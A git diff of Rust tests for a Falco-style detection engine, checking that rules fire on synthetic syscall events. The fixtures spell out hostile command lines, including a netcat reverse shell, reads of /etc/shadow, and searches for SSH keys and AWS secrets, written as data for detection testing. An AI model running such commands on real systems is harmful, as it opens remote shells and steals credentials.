@@ -1,7 +1,20 @@
-use super::*;
-use crate::rules::{cli, load_files};
+//! Engine tests: operators, transformers and fields on handcrafted events, and Falco's
+//! upstream stable ruleset against events that honestly satisfy its rules.
 
-fn upstream_path() -> std::path::PathBuf {
+use std::{borrow::Cow, collections::HashMap, net::IpAddr, sync::Arc};
+
+use super::{
+    env::{ContainerInfo, StaticContainers, StaticUsers},
+    *,
+};
+use crate::{
+    event::{Arg, ArgValue, Event, EventKind, Exit, SockAddr, Syscall},
+    output,
+    process::Process,
+    rules::{load_files, load_sources},
+};
+
+pub(crate) fn upstream_path() -> std::path::PathBuf {
     let p = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
         .join("../../shared/compat/falco_rules.yaml");
     assert!(
@@ -12,15 +25,796 @@ fn upstream_path() -> std::path::PathBuf {
     p
 }
 
+pub(crate) fn proc_(pid: u32, ppid: u32, comm: &str, exe: &str, args: &[&str]) -> Arc<Process> {
+    Arc::new(Process {
+        pid,
+        ppid,
+        comm: comm.into(),
+        exe: exe.into(),
+        args: args.iter().map(|s| s.to_string()).collect(),
+        cwd: Some("/root".into()),
+        uid: 0,
+        gid: 0,
+        euid: 0,
+        start_ts: 1_000,
+        cgroup_id: 1,
+        vpid: pid,
+        loginuid: u32::MAX,
+        ..Default::default()
+    })
+}
+
+pub(crate) fn arg(name: &'static str, value: ArgValue) -> Arg {
+    Arg {
+        name: Cow::Borrowed(name),
+        value,
+    }
+}
+
+pub(crate) fn path(p: &str) -> ArgValue {
+    ArgValue::Path {
+        raw: p.into(),
+        resolved: Some(p.into()),
+    }
+}
+
+pub(crate) fn flags(raw: u64, names: &[&'static str]) -> ArgValue {
+    ArgValue::Flags {
+        raw,
+        names: names.iter().map(|n| Cow::Borrowed(*n)).collect(),
+    }
+}
+
+pub(crate) fn syscall(name: &'static str, ret: i64, args: Vec<Arg>) -> EventKind {
+    EventKind::Syscall(Syscall {
+        name: Cow::Borrowed(name),
+        nr: 0,
+        ret,
+        args,
+        truncated: false,
+        latency_ns: 100,
+    })
+}
+
+pub(crate) fn enriched(kind: EventKind, p: Arc<Process>, ancestors: Vec<Arc<Process>>) -> Enriched {
+    Enriched {
+        event: Event {
+            ts: 10_000_000_000,
+            time: 1_685_022_245_478_445_995,
+            tgid: p.pid,
+            tid: p.pid,
+            uid: p.uid,
+            gid: p.gid,
+            euid: p.euid,
+            egid: p.gid,
+            cgroup_id: p.cgroup_id,
+            pid_ns: 1,
+            mnt_ns: 1,
+            vpid: p.vpid,
+            comm: p.comm.clone(),
+            kind,
+        },
+        process: Some(p),
+        ancestors,
+    }
+}
+
+pub(crate) fn openat(p: Arc<Process>, file: &str, fl: ArgValue, ret: i64) -> Enriched {
+    let bash = proc_(10, 1, "bash", "/bin/bash", &["bash"]);
+    enriched(
+        syscall(
+            "openat",
+            ret,
+            vec![
+                arg("dfd", ArgValue::Fd(-100)),
+                arg("filename", path(file)),
+                arg("flags", fl),
+                arg("mode", ArgValue::Mode(0)),
+            ],
+        ),
+        p,
+        vec![bash],
+    )
+}
+
+pub(crate) fn execve(p: Arc<Process>, ancestors: Vec<Arc<Process>>) -> Enriched {
+    let exe = p.exe.clone();
+    let argv = p.args.clone();
+    enriched(
+        syscall(
+            "execve",
+            0,
+            vec![
+                arg("filename", path(&exe)),
+                arg("argv", ArgValue::Argv(argv)),
+                arg("envp", ArgValue::Ptr(0)),
+            ],
+        ),
+        p,
+        ancestors,
+    )
+}
+
+fn rule_src(cond: &str) -> String {
+    format!(
+        "- rule: t\n  desc: d\n  condition: {}\n  output: o\n  priority: INFO\n",
+        serde_json::to_string(cond).unwrap()
+    )
+}
+
+fn engine_for(cond: &str, opts: EngineOptions) -> Engine {
+    let res = load_sources(&[("t.yaml", rule_src(cond))]);
+    let errs: Vec<_> = res.errors().map(|e| e.message.clone()).collect();
+    assert!(res.is_ok(), "{cond}: {errs:?}");
+    Engine::new(res.ruleset, opts)
+}
+
+fn eval(cond: &str, en: &Enriched) -> bool {
+    !engine_for(cond, EngineOptions::default())
+        .evaluate(en)
+        .is_empty()
+}
+
+fn cat_shadow() -> Enriched {
+    let cat = proc_(20, 10, "cat", "/usr/bin/cat", &["cat", "/etc/shadow"]);
+    openat(cat, "/etc/shadow", flags(0, &["O_RDONLY", "O_CLOEXEC"]), 3)
+}
+
 #[test]
-fn smoke_upstream() {
+fn string_operators() {
+    let e = cat_shadow();
+    for (cond, want) in [
+        ("proc.name = cat", true),
+        ("proc.name == cat", true),
+        ("proc.name != cat", false),
+        ("fd.name contains shad", true),
+        ("fd.name icontains SHAD", true),
+        ("fd.name startswith /etc/", true),
+        ("fd.name endswith dow", true),
+        ("fd.name glob '/etc/*'", true),
+        ("fd.name glob '/etc/?hadow'", true),
+        ("fd.name iglob '/ETC/*'", true),
+        ("fd.name glob '/var/*'", false),
+        ("fd.name regex '/etc/s.*'", true),
+        ("fd.name regex 'etc'", false),
+        ("fd.name bcontains 736861646f77", true),
+        ("fd.name bstartswith 2f657463", true),
+        ("fd.name bstartswith 2f766172", false),
+        ("fd.name in (/etc/shadow, /etc/sudoers)", true),
+        ("fd.name in (/etc/sudoers)", false),
+        ("fd.name intersects (/etc/shadow)", true),
+        ("fd.name pmatch (/etc)", true),
+        ("fd.name pmatch (/et)", false),
+        ("fd.name startswith oneof (/var, /etc)", true),
+        ("fd.name startswith anyof (/var, /usr)", false),
+        ("fd.name contains allof (etc, shadow)", true),
+        ("fd.name contains allof (etc, passwd)", false),
+        ("proc.name = val(proc.name)", true),
+        ("proc.name = val(proc.pname)", false),
+        ("proc.pname exists", true),
+        ("proc.aname[3] exists", false),
+        ("container.id exists", false),
+        ("container.id != host", false),
+    ] {
+        assert_eq!(eval(cond, &e), want, "{cond}");
+    }
+}
+
+#[test]
+fn numeric_bool_and_flag_operators() {
+    let e = cat_shadow();
+    for (cond, want) in [
+        ("fd.num = 3", true),
+        ("fd.num >= 0", true),
+        ("fd.num > 3", false),
+        ("fd.num < 4", true),
+        ("fd.num <= 2", false),
+        ("fd.num in (1, 2, 3)", true),
+        ("proc.pid = 20", true),
+        ("proc.ppid = 10", true),
+        ("evt.rawres = 3", true),
+        ("evt.res = SUCCESS", true),
+        ("evt.is_open_read = true", true),
+        ("evt.is_open_write = true", false),
+        ("evt.arg.flags contains O_CLOEXEC", true),
+        ("evt.arg.flags contains O_TRUNC", false),
+        ("evt.arg.flags = O_RDONLY|O_CLOEXEC", true),
+        ("evt.arg.name = /etc/shadow", true),
+        ("evt.arg[1] = /etc/shadow", true),
+        ("evt.rawarg.flags = 0", true),
+        ("evt.type = openat and evt.dir = '<'", true),
+        ("user.uid = 0 and user.loginuid = -1", true),
+        ("proc.duration > 0", true),
+    ] {
+        assert_eq!(eval(cond, &e), want, "{cond}");
+    }
+}
+
+#[test]
+fn transformers_in_conditions() {
+    let e = cat_shadow();
+    for (cond, want) in [
+        ("toupper(proc.name) = CAT", true),
+        ("tolower(toupper(proc.name)) = cat", true),
+        ("basename(fd.name) = shadow", true),
+        ("len(fd.name) = 11", true),
+        ("len(proc.name) > 3", false),
+        ("b64(proc.name) exists", true),
+    ] {
+        assert_eq!(eval(cond, &e), want, "{cond}");
+    }
+}
+
+#[test]
+fn ancestors_and_process_fields() {
+    let nginx = proc_(
+        5,
+        1,
+        "nginx",
+        "/usr/sbin/nginx",
+        &["nginx", "-g", "daemon off;"],
+    );
+    let sh = proc_(6, 5, "sh", "/bin/sh", &["sh", "-c", "id"]);
+    let init = proc_(1, 0, "systemd", "/sbin/init", &["/sbin/init"]);
+    let e = execve(sh, vec![nginx, init]);
+    for (cond, want) in [
+        ("proc.aname = nginx", true),
+        ("proc.aname in (systemd)", true),
+        ("proc.aname = bash", false),
+        ("proc.aname[1] = nginx and proc.aname[2] = systemd", true),
+        ("proc.aname[0] = sh", true),
+        ("proc.pcmdline = 'nginx -g daemon off;'", true),
+        ("proc.cmdline = 'sh -c id'", true),
+        ("proc.args = '-c id'", true),
+        ("proc.exe = sh", true),
+        ("proc.exepath = /bin/sh", true),
+        ("proc.pexepath = /usr/sbin/nginx", true),
+        ("proc.cwd = /root/", true),
+        ("proc.tty = 0", true),
+        ("evt.type in (execve, execveat)", true),
+    ] {
+        assert_eq!(eval(cond, &e), want, "{cond}");
+    }
+}
+
+#[test]
+fn network_fields_from_connect() {
+    let ssh = proc_(
+        30,
+        10,
+        "ssh",
+        "/usr/bin/ssh",
+        &["ssh", "-p", "443", "evil.example"],
+    );
+    let e = enriched(
+        syscall(
+            "connect",
+            0,
+            vec![
+                arg("fd", ArgValue::Fd(3)),
+                arg(
+                    "uservaddr",
+                    ArgValue::SockAddr(SockAddr::Inet {
+                        ip: "203.0.113.7".parse::<IpAddr>().unwrap(),
+                        port: 443,
+                    }),
+                ),
+                arg("addrlen", ArgValue::Int(16)),
+            ],
+        ),
+        ssh,
+        vec![],
+    );
+    for (cond, want) in [
+        ("fd.typechar = 4 and fd.type = ipv4", true),
+        ("fd.sip = 203.0.113.7 and fd.rip = 203.0.113.7", true),
+        ("fd.sport = 443 and fd.rport = 443", true),
+        ("fd.snet = 203.0.113.0/24", true),
+        ("fd.net = 127.0.0.0/8", false),
+        ("fd.snet in (10.0.0.0/8, 203.0.0.0/8)", true),
+        ("fd.num = 3", true),
+        ("fd.name = 203.0.113.7:443", true),
+        ("fd.lport exists", false),
+        ("fd.l4proto exists", false),
+    ] {
+        assert_eq!(eval(cond, &e), want, "{cond}");
+    }
+}
+
+#[test]
+fn procexit_and_exec_events() {
+    let p = proc_(40, 1, "x", "/x", &["x"]);
+    let exit = enriched(EventKind::Exit(Exit { status: 0 }), p.clone(), vec![]);
+    assert!(eval("evt.type = procexit and proc.name = x", &exit));
+    let exec = enriched(
+        EventKind::Exec(crate::event::Exec {
+            filename: "/x".into(),
+            args: vec!["x".into()],
+            args_truncated: false,
+        }),
+        p,
+        vec![],
+    );
+    assert!(
+        !eval("proc.name = x", &exec),
+        "exec events only feed the process table"
+    );
+}
+
+#[test]
+fn users_and_containers_come_from_the_hooks() {
+    let e = cat_shadow();
+    let opts = EngineOptions {
+        users: Arc::new(StaticUsers::new(&[(0, "root")], &[(0, "root")])),
+        containers: Arc::new(StaticContainers {
+            by_cgroup: HashMap::from([(
+                1,
+                Arc::new(ContainerInfo {
+                    id: "abcdef012345".into(),
+                    image_repository: Some("docker.io/library/alpine".into()),
+                    privileged: Some(true),
+                    k8s_ns_name: Some("default".into()),
+                    ..Default::default()
+                }),
+            )]),
+            default: None,
+        }),
+        hostname: Arc::from("node-1"),
+        ..EngineOptions::default()
+    };
+    for cond in [
+        "user.name = root and group.name = root",
+        "container.id = abcdef012345 and container.privileged = true",
+        "k8s.ns.name = default and container.image.repository endswith alpine",
+        "evt.hostname = node-1",
+    ] {
+        assert!(
+            !engine_for(cond, opts.clone()).evaluate(&e).is_empty(),
+            "{cond}"
+        );
+    }
+}
+
+#[test]
+fn first_match_wins_unless_all() {
+    let src = "- rule: a\n  desc: d\n  condition: evt.type=openat\n  output: a\n  priority: INFO\n- rule: b\n  desc: d\n  condition: evt.type=openat\n  output: b\n  priority: INFO\n";
+    let res = load_sources(&[("t.yaml", src)]);
+    let e = cat_shadow();
+    assert_eq!(
+        Engine::new(res.ruleset, EngineOptions::default())
+            .evaluate(&e)
+            .len(),
+        1
+    );
+    let res = load_sources(&[("t.yaml", src)]);
+    let all = EngineOptions {
+        rule_matching: RuleMatching::All,
+        ..EngineOptions::default()
+    };
+    assert_eq!(Engine::new(res.ruleset, all).evaluate(&e).len(), 2);
+    let res = load_sources(&[("t.yaml", src)]);
+    let strict = EngineOptions {
+        min_priority: Priority::Warning,
+        ..EngineOptions::default()
+    };
+    assert!(
+        Engine::new(res.ruleset, strict).evaluate(&e).is_empty(),
+        "INFO rules are below WARNING"
+    );
+}
+
+/// How many of Falco's 25 stable rules load and compile. May only go up.
+const UPSTREAM_COMPILED: usize = 25;
+
+#[test]
+fn upstream_stable_ruleset_loads() {
     let res = load_files(&[upstream_path()]);
-    println!("{}", cli::render_results(&res, false));
-    let n = res
+    let errs: Vec<_> = res
+        .errors()
+        .map(|e| format!("{} {}", e.at(), e.message))
+        .collect();
+    assert!(res.is_ok(), "{errs:#?}");
+    assert_eq!(
+        res.warnings().count(),
+        0,
+        "{:#?}",
+        res.warnings().collect::<Vec<_>>()
+    );
+    assert_eq!(res.ruleset.rules.len(), 25);
+    let compiled = res
         .ruleset
         .rules
         .iter()
         .filter(|r| r.compiled.is_some())
         .count();
-    println!("compiled {n}");
+    assert!(
+        compiled >= UPSTREAM_COMPILED,
+        "only {compiled} of 25 upstream rules compile"
+    );
+    let engine = Engine::new(res.ruleset, EngineOptions::default());
+    let SyscallInterest::Only(interest) = engine.syscall_interest() else {
+        panic!("every upstream rule has event types")
+    };
+    for s in [
+        "open",
+        "openat",
+        "openat2",
+        "execve",
+        "execveat",
+        "connect",
+        "ptrace",
+        "symlinkat",
+        "linkat",
+        "socket",
+        "dup2",
+        "finit_module",
+    ] {
+        assert!(interest.contains(s), "{s} missing from {interest:?}");
+    }
+    assert!(!interest.contains("read"));
+}
+
+fn upstream_engine() -> Engine {
+    let res = load_files(&[upstream_path()]);
+    let host = Arc::new(ContainerInfo {
+        id: "host".into(),
+        ..Default::default()
+    });
+    let ctr = Arc::new(ContainerInfo {
+        id: "0123456789ab".into(),
+        image_repository: Some("docker.io/library/alpine".into()),
+        privileged: Some(true),
+        ..Default::default()
+    });
+    let opts = EngineOptions {
+        hostname: Arc::from("node-1"),
+        users: Arc::new(StaticUsers::new(
+            &[(0, "root"), (33, "www-data")],
+            &[(0, "root")],
+        )),
+        containers: Arc::new(StaticContainers {
+            by_cgroup: HashMap::from([(7, ctr)]),
+            default: Some(host),
+        }),
+        rule_matching: RuleMatching::All,
+        ..EngineOptions::default()
+    };
+    Engine::new(res.ruleset, opts)
+}
+
+fn rules_hit(engine: &Engine, e: &Enriched) -> Vec<String> {
+    engine.evaluate(e).into_iter().map(|a| a.rule).collect()
+}
+
+fn in_container(p: &Process) -> Arc<Process> {
+    Arc::new(Process {
+        cgroup_id: 7,
+        ..p.clone()
+    })
+}
+
+#[test]
+fn upstream_rules_fire_on_matching_events() {
+    let engine = upstream_engine();
+    let bash = proc_(10, 1, "bash", "/bin/bash", &["bash"]);
+    let runc = proc_(9, 1, "runc", "/usr/bin/runc", &["runc"]);
+    let nginx = proc_(5, 1, "nginx", "/usr/sbin/nginx", &["nginx"]);
+
+    // Read sensitive file untrusted: cat /etc/shadow from a shell.
+    let alerts = engine.evaluate(&cat_shadow());
+    assert_eq!(
+        alerts.iter().map(|a| a.rule.as_str()).collect::<Vec<_>>(),
+        ["Read sensitive file untrusted"]
+    );
+    let a = &alerts[0];
+    assert_eq!(a.priority, Priority::Warning);
+    assert!(
+        a.output.starts_with(
+            "Sensitive file opened for reading by non-trusted program | file=/etc/shadow "
+        ),
+        "{}",
+        a.output
+    );
+    assert!(
+        a.output.contains("process=cat")
+            && a.output.contains("parent=bash")
+            && a.output.contains("user=root"),
+        "{}",
+        a.output
+    );
+    assert!(a.output.contains("gparent=<NA>"), "{}", a.output);
+    assert_eq!(a.output_fields["fd.name"], "/etc/shadow");
+    assert_eq!(a.output_fields["user.loginuid"], -1);
+    assert!(a.output_fields["proc.aname[2]"].is_null());
+    let json: serde_json::Value = serde_json::from_str(&output::format_json(a)).unwrap();
+    assert_eq!(json["rule"], "Read sensitive file untrusted");
+    assert_eq!(json["priority"], "Warning");
+    assert_eq!(json["source"], "syscall");
+    assert_eq!(json["hostname"], "node-1");
+    assert_eq!(json["time"], "2023-05-25T13:44:05.478445995Z");
+    assert_eq!(
+        json["output_fields"]["evt.time"],
+        1_685_022_245_478_445_995_u64
+    );
+    assert!(
+        json["tags"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|t| t == "T1555")
+    );
+    assert!(
+        output::format_text(a).starts_with("13:44:05.478445995: Warning Sensitive file opened")
+    );
+
+    // A trusted reader is not reported; a failed open is not a read.
+    let passwd = proc_(21, 10, "passwd", "/usr/bin/passwd", &["passwd"]);
+    assert!(
+        engine
+            .evaluate(&openat(passwd, "/etc/shadow", flags(0, &["O_RDONLY"]), 3))
+            .is_empty()
+    );
+    let cat = proc_(22, 10, "cat", "/usr/bin/cat", &["cat"]);
+    assert!(
+        engine
+            .evaluate(&openat(
+                cat.clone(),
+                "/etc/shadow",
+                flags(0, &["O_RDONLY"]),
+                -13
+            ))
+            .is_empty()
+    );
+
+    // Run shell untrusted: nginx spawns sh.
+    let sh = proc_(6, 5, "sh", "/bin/sh", &["sh", "-c", "id"]);
+    assert_eq!(
+        rules_hit(&engine, &execve(sh.clone(), vec![nginx.clone()])),
+        ["Run shell untrusted"]
+    );
+    // ... but not when bash spawns it.
+    assert!(rules_hit(&engine, &execve(sh, vec![bash.clone()])).is_empty());
+
+    // Clear Log Activities.
+    let e = openat(
+        cat.clone(),
+        "/var/log/syslog",
+        flags(0o1001, &["O_WRONLY", "O_TRUNC"]),
+        4,
+    );
+    assert_eq!(rules_hit(&engine, &e), ["Clear Log Activities"]);
+
+    // Directory traversal monitored file read.
+    let php = proc_(23, 5, "php-fpm", "/usr/sbin/php-fpm", &["php-fpm"]);
+    let e = enriched(
+        syscall(
+            "openat",
+            3,
+            vec![
+                arg("dfd", ArgValue::Fd(-100)),
+                arg(
+                    "filename",
+                    ArgValue::Path {
+                        raw: "/var/www/../../etc/passwd".into(),
+                        resolved: Some("/etc/passwd".into()),
+                    },
+                ),
+                arg("flags", flags(0, &["O_RDONLY"])),
+                arg("mode", ArgValue::Mode(0)),
+            ],
+        ),
+        php,
+        vec![nginx.clone()],
+    );
+    assert_eq!(
+        rules_hit(&engine, &e),
+        ["Directory traversal monitored file read"]
+    );
+
+    // Search Private Keys or Passwords / Find AWS Credentials / Remove Bulk Data from Disk.
+    let find = proc_(
+        24,
+        10,
+        "find",
+        "/usr/bin/find",
+        &["find", "/", "-name", "id_rsa"],
+    );
+    assert_eq!(
+        rules_hit(&engine, &execve(find, vec![bash.clone()])),
+        ["Search Private Keys or Passwords"]
+    );
+    let grep = proc_(
+        25,
+        10,
+        "grep",
+        "/usr/bin/grep",
+        &["grep", "-r", "aws_secret_access_key", "/"],
+    );
+    assert_eq!(
+        rules_hit(&engine, &execve(grep, vec![bash.clone()])),
+        ["Find AWS Credentials"]
+    );
+    let shred = proc_(26, 10, "shred", "/usr/bin/shred", &["shred", "-u", "x"]);
+    assert_eq!(
+        rules_hit(&engine, &execve(shred, vec![bash.clone()])),
+        ["Remove Bulk Data from Disk"]
+    );
+
+    // Execution from /dev/shm and fileless execution.
+    let shm = proc_(27, 10, "x", "/dev/shm/x", &["/dev/shm/x"]);
+    assert_eq!(
+        rules_hit(&engine, &execve(shm, vec![bash.clone()])),
+        ["Execution from /dev/shm"]
+    );
+    let memfd = proc_(28, 10, "3", "/memfd:payload (deleted)", &["payload"]);
+    assert_eq!(
+        rules_hit(&engine, &execve(memfd, vec![bash.clone()])),
+        ["Fileless execution via memfd_create"]
+    );
+
+    // Symlink and hardlink over sensitive files.
+    let ln = proc_(
+        29,
+        10,
+        "ln",
+        "/usr/bin/ln",
+        &["ln", "-s", "/etc/shadow", "x"],
+    );
+    let e = enriched(
+        syscall(
+            "symlinkat",
+            0,
+            vec![
+                arg("oldname", ArgValue::Str("/etc/shadow".into())),
+                arg("newdfd", ArgValue::Fd(-100)),
+                arg("newname", path("/tmp/x")),
+            ],
+        ),
+        ln.clone(),
+        vec![bash.clone()],
+    );
+    let alerts = engine.evaluate(&e);
+    assert_eq!(alerts.len(), 1);
+    assert_eq!(alerts[0].rule, "Create Symlink Over Sensitive Files");
+    assert!(
+        alerts[0]
+            .output
+            .contains("target=/etc/shadow linkpath=/tmp/x"),
+        "{}",
+        alerts[0].output
+    );
+    let e = enriched(
+        syscall(
+            "linkat",
+            0,
+            vec![
+                arg("olddfd", ArgValue::Fd(-100)),
+                arg("oldname", path("/etc/shadow")),
+                arg("newdfd", ArgValue::Fd(-100)),
+                arg("newname", path("/tmp/y")),
+                arg("flags", flags(0, &[])),
+            ],
+        ),
+        ln,
+        vec![bash.clone()],
+    );
+    assert_eq!(
+        rules_hit(&engine, &e),
+        ["Create Hardlink Over Sensitive Files"]
+    );
+
+    // PTRACE attach and anti-debug.
+    let gdb = proc_(31, 10, "gdb", "/usr/bin/gdb", &["gdb", "-p", "1"]);
+    let ptrace = |req: &'static str, raw: i64| {
+        enriched(
+            syscall(
+                "ptrace",
+                0,
+                vec![
+                    arg(
+                        "request",
+                        ArgValue::Enum {
+                            raw,
+                            name: Some(Cow::Borrowed(req)),
+                        },
+                    ),
+                    arg("pid", ArgValue::Int(1)),
+                    arg("addr", ArgValue::Ptr(0)),
+                    arg("data", ArgValue::Ptr(0)),
+                ],
+            ),
+            gdb.clone(),
+            vec![bash.clone()],
+        )
+    };
+    assert_eq!(
+        rules_hit(&engine, &ptrace("PTRACE_ATTACH", 16)),
+        ["PTRACE attached to process"]
+    );
+    assert_eq!(
+        rules_hit(&engine, &ptrace("PTRACE_TRACEME", 0)),
+        ["PTRACE anti-debug attempt"]
+    );
+
+    // System user interactive: www-data runs a command under sshd.
+    let sshd = proc_(3, 1, "sshd", "/usr/sbin/sshd", &["sshd"]);
+    let mut id = (*proc_(32, 3, "id", "/usr/bin/id", &["id"])).clone();
+    id.euid = 33;
+    let e = execve(Arc::new(id), vec![sshd]);
+    assert_eq!(
+        rules_hit(&engine, &{
+            let mut e = e;
+            e.event.euid = 33;
+            e
+        }),
+        ["System user interactive"]
+    );
+
+    // Container rules.
+    let mut csh = (*proc_(40, 9, "sh", "/bin/sh", &["sh"])).clone();
+    csh.tty = 34816;
+    let e = execve(in_container(&csh), vec![runc.clone()]);
+    assert_eq!(
+        rules_hit(&engine, &{
+            let mut e = e;
+            e.event.cgroup_id = 7;
+            e
+        }),
+        ["Terminal shell in container"]
+    );
+    let nc = proc_(
+        41,
+        9,
+        "nc",
+        "/usr/bin/nc",
+        &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
+    );
+    assert_eq!(
+        rules_hit(&engine, &execve(in_container(&nc), vec![runc.clone()])),
+        ["Netcat Remote Code Execution in Container"]
+    );
+    let debugfs = proc_(42, 9, "debugfs", "/sbin/debugfs", &["debugfs", "/dev/sda1"]);
+    assert_eq!(
+        rules_hit(&engine, &execve(in_container(&debugfs), vec![runc.clone()])),
+        ["Debugfs Launched in Privileged Container"]
+    );
+    let tcpdump = proc_(43, 9, "tcpdump", "/usr/bin/tcpdump", &["tcpdump"]);
+    let e = enriched(
+        syscall(
+            "socket",
+            3,
+            vec![
+                arg(
+                    "family",
+                    ArgValue::Enum {
+                        raw: 17,
+                        name: Some(Cow::Borrowed("AF_PACKET")),
+                    },
+                ),
+                arg("type", flags(3, &["SOCK_RAW"])),
+                arg("protocol", ArgValue::Int(768)),
+            ],
+        ),
+        in_container(&tcpdump),
+        vec![runc],
+    );
+    assert_eq!(
+        rules_hit(&engine, &e),
+        ["Packet socket created in container"]
+    );
+    // The same shell on the host is not "in a container".
+    let e = execve(Arc::new(csh), vec![bash]);
+    assert!(rules_hit(&engine, &e).is_empty());
+}
+
+#[test]
+fn replay_reads_json_lines() {
+    let engine = upstream_engine();
+    let line = serde_json::to_string(&cat_shadow()).unwrap();
+    let alerts = engine
+        .replay(format!("{line}\n\n{line}\n").as_bytes())
+        .unwrap();
+    assert_eq!(alerts.len(), 2);
+    let err = engine.replay("{not json}\n".as_bytes()).unwrap_err();
+    assert!(err.to_string().starts_with("line 1:"), "{err}");
 }
